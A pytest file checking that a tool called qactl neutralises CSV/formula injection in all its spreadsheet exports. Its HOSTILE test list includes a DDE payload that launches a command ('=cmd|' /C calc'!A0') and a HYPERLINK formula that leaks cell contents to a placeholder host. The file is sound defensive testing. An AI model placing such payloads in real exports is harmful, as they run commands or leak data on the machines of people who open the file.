"""Every CSV qactl writes is safe to open in Excel: hostile text in every field never starts a cell as a formula.

Strings a spreadsheet would run (OWASP, "CSV injection"): a leading ``=``, ``+``, ``-``, ``@``, or a tab, carriage
return or line feed before one, are fed into every field of the scored export (answers, fields, comments,
milestones, Forms' columns, the export's own unknown headers with --include-pii, even the file name that becomes the
sheet of each error's cell), of the cohort and of the plans register; every cell and header of the scored ``.csv``,
the allocation ``.csv`` and the mail-merge ``.csv`` is then read back.
"""

from __future__ import annotations

import csv
import sys
from datetime import datetime
from pathlib import Path

import pytest
from typer.testing import CliRunner

from qactl.cli import app
from qactl.rubric.loader import resolve
from qactl.rubric.models import Item
from qactl.sheets.csvcell import csv_cell, csv_row

HOSTILE = [
    "=1+1",
    "+SUM(A1:A9)",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "-",
    "+",
    "@",
]
NUMBERS_AS_TEXT = ["-3.5", "+2", "-0", "12"]


def dangerous(cell: str) -> bool:
    """Would a spreadsheet take this cell for a formula (or hide one behind white space)?"""
    s = cell.lstrip(" ")
    if not s or s[0] not in "=+-@\t\r\n":
        return False
    try:
        float(cell)
        return False
    except ValueError:
        return True


def read_back(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as f:
        return list(csv.reader(f))


@pytest.mark.parametrize("text", HOSTILE)
def test_the_neutraliser(text):
    assert csv_cell(text) == "'" + text and not dangerous(csv_cell(text))


def test_numbers_and_plain_text_are_left_alone():
    for text in [*NUMBERS_AS_TEXT, "Fully", "", "It's fine - really", "a=b"]:
        assert csv_cell(text) == text
    assert csv_row([None, 3, -2.5, True]) == ["", 3, -2.5, True]


@pytest.fixture(autouse=True)
def _key(monkeypatch, tmp_path):
    monkeypatch.setenv("QACTL_KEY", "test-key-not-secret")
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))


@pytest.mark.parametrize("include_pii", [False, True])
def test_scored_csv_with_hostile_text_in_every_field(tmp_path, include_pii):
    rubric = resolve(
        "annual-review"
    ).rubric  # fields of every type, items, milestones, comments, a reason field
    cols = rubric.columns()
    headers = ["ID", "Start time", "Completion time", "Email", "Name", *[c.text for c in cols], *HOSTILE[:6]]
    rows = []
    for n, bad in enumerate(HOSTILE, start=1):
        when = datetime(2025, 10, 1, 9, 0).strftime("%d/%m/%Y %H:%M")
        row: list[str] = [str(n), when, when, bad, bad]
        for c in cols:
            row.append(bad if n % 2 or not isinstance(c, Item) else rubric.scales[c.scale].choices[0].label)
        rows.append(row + [bad] * 6)
    src = tmp_path / "=HYPERLINK(1).csv"  # the file name is the "sheet" of every error's cell
    with src.open("w", encoding="utf-8", newline="") as f:
        csv.writer(f).writerows([headers, *rows])
    out = tmp_path / "scored.csv"
    args = ["score", "annual-review", str(src), "-o", str(out), "--audit-date", "2025-11-01"]
    r = CliRunner().invoke(app, args + (["--include-pii"] if include_pii else []), catch_exceptions=False)
    assert r.exit_code == 1, r.output  # every row has errors: the output is still written, whole
    table = read_back(out)
    assert len(table) == 1 + len(HOSTILE)
    if include_pii:
        assert "'=1+1" in table[0] and "'@SUM(A1)" in table[0]  # the unknown headers, kept and neutralised
    bad_cells = [(r, c, v) for r, row in enumerate(table) for c, v in enumerate(row) if dangerous(v)]
    assert bad_cells == []
    assert any(v.startswith("'=HYPERLINK(1).csv!") for row in table[1:] for v in row)  # the errors column


def test_allocation_mail_merge_and_chase_csv_with_hostile_text_in_every_field(tmp_path, monkeypatch, capsys):
    from qactl.cli import main

    lines = ["auditors:"]
    for n, bad in enumerate(HOSTILE[:8]):
        q = (
            bad.replace("\\", "\\\\")
            .replace('"', '\\"')
            .replace("\t", "\\t")
            .replace("\r", "\\r")
            .replace("\n", "\\n")
        )
        lines.append(
            f'  - {{id: "{q}{n}", name: "{q}", service: "{q}{n % 3}", organisation: "{q}", email: "{q}"}}'
        )
    cohort = tmp_path / "cohort.yaml"
    cohort.write_text("\n".join(lines) + "\n", encoding="utf-8")
    plans = tmp_path / "plans.csv"
    with plans.open("w", encoding="utf-8", newline="") as f:
        w = csv.writer(f)
        w.writerow(["plan_id", "issued", "type", "team", "key_stage", "primary_need", "contributors"])
        for n, bad in enumerate(HOSTILE[:8]):
            w.writerow([f"{bad}{n}", "01/09/2025", "new", bad, bad, bad, ""])
    out, merge = tmp_path / "allocation.csv", tmp_path / "mail-merge.csv"
    monkeypatch.setattr(
        sys,
        "argv",
        [
            "qactl",
            "allocate",
            "--plans",
            str(plans),
            "--cohort",
            str(cohort),
            "--round",
            "=R",
            "--from",
            "01/06/2025",
            "--to",
            "30/09/2025",
            "--per-auditor",
            "1",
            "-o",
            str(out),
            "--mail-merge",
            str(merge),
        ],
    )
    with pytest.raises(SystemExit) as e:
        main()
    assert e.value.code in (0, None), capsys.readouterr().err
    # the chase list's reminders, from the same allocation (as .json) and returns that name none of its plans
    alloc = tmp_path / "allocation.json"
    monkeypatch.setattr(sys, "argv", [*sys.argv[:-4], "-o", str(alloc)])
    with pytest.raises(SystemExit) as e:
        main()
    assert e.value.code in (0, None), capsys.readouterr().err
    returns = tmp_path / "returns.json"
    scored = tmp_path / "returns.csv"
    rubric = resolve("ehcp-quality").rubric
    with scored.open("w", encoding="utf-8", newline="") as f:
        csv.writer(f).writerows([[c.text for c in rubric.columns()], ["" for _ in rubric.columns()]])
    r = CliRunner().invoke(
        app, ["score", "ehcp-quality", str(scored), "-o", str(returns)], catch_exceptions=False
    )
    assert r.exit_code in (0, 1), r.output
    chased = tmp_path / "reminders.csv"
    monkeypatch.setattr(
        sys,
        "argv",
        [
            "qactl",
            "chase",
            str(returns),
            "--allocation",
            str(alloc),
            "--rubric",
            "ehcp-quality",
            "-o",
            str(tmp_path / "chase.xlsx"),
            "--mail-merge",
            str(chased),
        ],
    )
    with pytest.raises(SystemExit) as e:
        main()
    assert e.value.code in (0, None), capsys.readouterr().err
    for path in (out, merge, chased):
        table = read_back(path)
        assert len(table) > 1
        assert [(path.name, v) for row in table for v in row if dangerous(v)] == []
        assert any(v.startswith("'") for row in table[1:] for v in row), path.name  # hostile text did arrive


def test_every_csv_writer_in_the_package_goes_through_the_neutraliser():
    """A new CSV output (a chase list, an export) must use qactl.sheets.csvcell, or this fails and names the file."""
    package = Path(__file__).resolve().parents[2] / "qactl"
    writers = [
        p
        for p in package.rglob("*.py")
        if "csv.writer(" in p.read_text(encoding="utf-8") or "DictWriter(" in p.read_text(encoding="utf-8")
    ]
    assert writers  # the scored .csv, the allocation and the mail merge at least
    for p in writers:
        text = p.read_text(encoding="utf-8")
        assert p.name == "csvcell.py" or "from qactl.sheets.csvcell import" in text, (
            f"{p} writes CSV without the neutraliser"
        )
